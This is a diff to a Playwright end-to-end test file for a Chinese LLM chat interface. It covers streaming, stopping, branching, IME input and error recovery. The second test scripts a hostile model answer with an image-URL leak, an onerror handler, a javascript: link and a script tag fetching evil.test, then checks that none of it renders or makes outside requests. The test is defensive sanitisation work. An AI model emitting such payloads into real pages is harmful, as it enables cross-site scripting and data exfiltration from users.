@@ -1,7 +1,6 @@
 import type { Page } from '@playwright/test';
-import { answerOf, type LlmScript, startScriptedLlm } from '../../server/test/scriptedLlm';
+import { answerOf, type LlmScript } from '../../server/test/scriptedLlm';
 import { expect, expectAccessible, signInByPassword, test } from './fixtures';
-import { makeDataDir, removeDataDir, startServer } from './server';
 
 const field = (page: Page) => page.getByRole('textbox', { name: '提问' });
 const answers = (page: Page) => page.getByRole('article', { name: /^助手回答/ });
@@ -101,123 +100,103 @@ const slowly = (reasoning: string, answer: string, ms: number): LlmScript => ({
 });
 
 test.describe('接入大模型', () => {
-  test('看着思考展开又收起；刷新后接着来；停止；编辑重发；重新回答；两个标签页一致', async ({ browser }) => {
+  test('看着思考展开又收起；刷新后接着来；停止；编辑重发；重新回答；两个标签页一致', async ({
+    withModel: { llm, context },
+  }) => {
     test.setTimeout(180_000);
-    const llm = await startScriptedLlm();
-    const dataDir = makeDataDir();
-    const server = await startServer(dataDir, { LLM_BASE_URL: llm.baseUrl, LLM_API_KEY: 'key', LLM_MODEL: 'scripted' });
-    const context = await browser.newContext({ baseURL: server.url });
-    try {
-      const page = await context.newPage();
-      await signInByPassword(page);
-      await page.goto('/DeepSeek');
-      const long = `高新技术企业须注册成立一年以上。${'后文一句。'.repeat(150)}写完了。`;
-      llm.next(slowly('先找认定条件，再核对成立时间。', long, 25));
-      await ask(page, '高新技术企业认定的成立时间要求');
-      const thinking = page.getByRole('button', { name: /深度思考\.\.\./ });
-      await expect(thinking).toHaveAttribute('aria-expanded', 'true');
-      await expect(answers(page).last()).toContainText('先找认定条件');
-      await expect(answers(page).last()).toContainText('注册成立一年以上');
-      await expect(thinking).toHaveAttribute('aria-expanded', 'false');
+    const page = await context.newPage();
+    await signInByPassword(page);
+    await page.goto('/DeepSeek');
+    const long = `高新技术企业须注册成立一年以上。${'后文一句。'.repeat(150)}写完了。`;
+    llm.next(slowly('先找认定条件，再核对成立时间。', long, 25));
+    await ask(page, '高新技术企业认定的成立时间要求');
+    const thinking = page.getByRole('button', { name: /深度思考\.\.\./ });
+    await expect(thinking).toHaveAttribute('aria-expanded', 'true');
+    await expect(answers(page).last()).toContainText('先找认定条件');
+    await expect(answers(page).last()).toContainText('注册成立一年以上');
+    await expect(thinking).toHaveAttribute('aria-expanded', 'false');
 
-      // In mid-answer: the same answer goes on, here and in a second tab.
-      await page.reload();
-      const second = await context.newPage();
-      await second.goto(page.url());
-      await expect(page.getByRole('button', { name: '停止回答' })).toBeVisible();
-      await expect(answers(page).last()).toContainText('写完了。', { timeout: 60_000 });
-      await expect(answers(second).last()).toContainText('写完了。');
-      const words = async (each: Page) => (await answers(each).last().locator('p').allInnerTexts()).join('');
-      expect((await words(page)).match(/写完了/g)).toHaveLength(1);
-      expect(await words(second)).toBe(await words(page));
-      await expect(answers(page).last()).toContainText('AI生成');
-      await second.close();
+    // In mid-answer: the same answer goes on, here and in a second tab.
+    await page.reload();
+    const second = await context.newPage();
+    await second.goto(page.url());
+    await expect(page.getByRole('button', { name: '停止回答' })).toBeVisible();
+    await expect(answers(page).last()).toContainText('写完了。', { timeout: 60_000 });
+    await expect(answers(second).last()).toContainText('写完了。');
+    const words = async (each: Page) => (await answers(each).last().locator('p').allInnerTexts()).join('');
+    expect((await words(page)).match(/写完了/g)).toHaveLength(1);
+    expect(await words(second)).toBe(await words(page));
+    await expect(answers(page).last()).toContainText('AI生成');
+    await second.close();
 
-      // Stopped from here, kept as far as it came.
-      llm.next(slowly('', '这一段不会写到头。'.repeat(200), 40));
-      await ask(page, '能享受什么优惠');
-      await expect(answers(page).last()).toContainText('这一段不会写到头');
-      await page.getByRole('button', { name: '停止回答' }).click();
-      await expect(answers(page).last()).toContainText('已停止生成');
-      const kept = await words(page);
-      await page.reload();
-      await expect(answers(page).last()).toContainText('已停止生成');
-      expect(await words(page)).toBe(kept);
+    // Stopped from here, kept as far as it came.
+    llm.next(slowly('', '这一段不会写到头。'.repeat(200), 40));
+    await ask(page, '能享受什么优惠');
+    await expect(answers(page).last()).toContainText('这一段不会写到头');
+    await page.getByRole('button', { name: '停止回答' }).click();
+    await expect(answers(page).last()).toContainText('已停止生成');
+    const kept = await words(page);
+    await page.reload();
+    await expect(answers(page).last()).toContainText('已停止生成');
+    expect(await words(page)).toBe(kept);
 
-      // Changed and sent again: the first stays as another branch.
-      llm.next(answerOf('按15%的税率缴纳企业所得税。'));
-      const question = page.getByRole('article', { name: /^您的提问/ }).last();
-      await question.hover();
-      await question.getByRole('button', { name: '编辑后重发' }).click();
-      await page.getByRole('textbox', { name: '编辑提问' }).fill('能享受什么税收优惠');
-      await page.getByRole('button', { name: '重发', exact: true }).click();
-      await expect(answers(page).last()).toContainText('的税率缴纳企业所得税');
-      await expect(answers(page).last()).toContainText('原文未见15%');
-      await page.getByRole('button', { name: '上一个版本' }).first().click();
-      await expect(answers(page).last()).toContainText('已停止生成');
-      await page.getByRole('button', { name: '下一个版本' }).first().click();
-      await expect(answers(page).last()).toContainText('的税率缴纳企业所得税');
+    // Changed and sent again: the first stays as another branch.
+    llm.next(answerOf('按15%的税率缴纳企业所得税。'));
+    const question = page.getByRole('article', { name: /^您的提问/ }).last();
+    await question.hover();
+    await question.getByRole('button', { name: '编辑后重发' }).click();
+    await page.getByRole('textbox', { name: '编辑提问' }).fill('能享受什么税收优惠');
+    await page.getByRole('button', { name: '重发', exact: true }).click();
+    await expect(answers(page).last()).toContainText('的税率缴纳企业所得税');
+    await expect(answers(page).last()).toContainText('原文未见15%');
+    await page.getByRole('button', { name: '上一个版本' }).first().click();
+    await expect(answers(page).last()).toContainText('已停止生成');
+    await page.getByRole('button', { name: '下一个版本' }).first().click();
+    await expect(answers(page).last()).toContainText('的税率缴纳企业所得税');
 
-      llm.next(answerOf('另一种回答。'));
-      await answers(page).last().getByRole('button', { name: '重新回答' }).click();
-      await expect(answers(page).last()).toContainText('另一种回答。');
-      await expect(answers(page).last()).toContainText('2/2');
-    } finally {
-      await context.close();
-      await server.stop();
-      await llm.close();
-      removeDataDir(dataDir);
-    }
+    llm.next(answerOf('另一种回答。'));
+    await answers(page).last().getByRole('button', { name: '重新回答' }).click();
+    await expect(answers(page).last()).toContainText('另一种回答。');
+    await expect(answers(page).last()).toContainText('2/2');
   });
 
-  test('模型出错时前文留着；回车选字不发送；恶意的回答什么也不取', async ({ browser }) => {
-    const llm = await startScriptedLlm();
-    const dataDir = makeDataDir();
-    const server = await startServer(dataDir, { LLM_BASE_URL: llm.baseUrl, LLM_API_KEY: 'key', LLM_MODEL: 'scripted' });
-    const context = await browser.newContext({ baseURL: server.url });
-    try {
-      const page = await context.newPage();
-      const foreign: string[] = [];
-      page.on('request', (request) => {
-        if (!request.url().startsWith(server.url)) foreign.push(request.url());
-      });
-      await signInByPassword(page);
-      await page.goto('/DeepSeek');
+  test('模型出错时前文留着；回车选字不发送；恶意的回答什么也不取', async ({ withModel: { llm, server, context } }) => {
+    const page = await context.newPage();
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (!request.url().startsWith(server.url)) foreign.push(request.url());
+    });
+    await signInByPassword(page);
+    await page.goto('/DeepSeek');
 
-      // An input method composes pinyin; the Enter that picks a word sends nothing.
-      const session = await context.newCDPSession(page);
-      await field(page).focus();
-      await session.send('Input.imeSetComposition', { text: 'gaoqi', selectionStart: 5, selectionEnd: 5 });
-      await session.send('Input.dispatchKeyEvent', {
-        type: 'rawKeyDown',
-        key: 'Process',
-        code: 'Enter',
-        windowsVirtualKeyCode: 229,
-      });
-      await expect(answers(page)).toHaveCount(0);
-      await session.send('Input.insertText', { text: '高企' });
-      await expect(field(page)).toHaveValue('高企');
-      await expect(answers(page)).toHaveCount(0);
+    // An input method composes pinyin; the Enter that picks a word sends nothing.
+    const session = await context.newCDPSession(page);
+    await field(page).focus();
+    await session.send('Input.imeSetComposition', { text: 'gaoqi', selectionStart: 5, selectionEnd: 5 });
+    await session.send('Input.dispatchKeyEvent', {
+      type: 'rawKeyDown',
+      key: 'Process',
+      code: 'Enter',
+      windowsVirtualKeyCode: 229,
+    });
+    await expect(answers(page)).toHaveCount(0);
+    await session.send('Input.insertText', { text: '高企' });
+    await expect(field(page)).toHaveValue('高企');
+    await expect(answers(page)).toHaveCount(0);
 
-      llm.next({ steps: [{ answer: '高新技术企业' }, { cut: true }] });
-      await field(page).press('Enter');
-      await expect(answers(page).last()).toContainText('回答中断，已保留前文');
-      await expect(answers(page).last()).toContainText('高新技术企业');
+    llm.next({ steps: [{ answer: '高新技术企业' }, { cut: true }] });
+    await field(page).press('Enter');
+    await expect(answers(page).last()).toContainText('回答中断，已保留前文');
+    await expect(answers(page).last()).toContainText('高新技术企业');
 
-      llm.next(
-        answerOf(
-          '![](http://evil.test/p.png?leak=1)<img src=http://evil.test/a onerror=alert(1)>[点](javascript:alert(1)) <script>fetch("http://evil.test")</script>结束。',
-        ),
-      );
-      await ask(page, '再说一遍');
-      await expect(answers(page).last()).toContainText('结束。');
-      await expect(answers(page).last().locator('img, script')).toHaveCount(0);
-      expect(foreign).toEqual([]);
-    } finally {
-      await context.close();
-      await server.stop();
-      await llm.close();
-      removeDataDir(dataDir);
-    }
+    llm.next(
+      answerOf(
+        '![](http://evil.test/p.png?leak=1)<img src=http://evil.test/a onerror=alert(1)>[点](javascript:alert(1)) <script>fetch("http://evil.test")</script>结束。',
+      ),
+    );
+    await ask(page, '再说一遍');
+    await expect(answers(page).last()).toContainText('结束。');
+    await expect(answers(page).last().locator('img, script')).toHaveCount(0);
+    expect(foreign).toEqual([]);
   });
 });
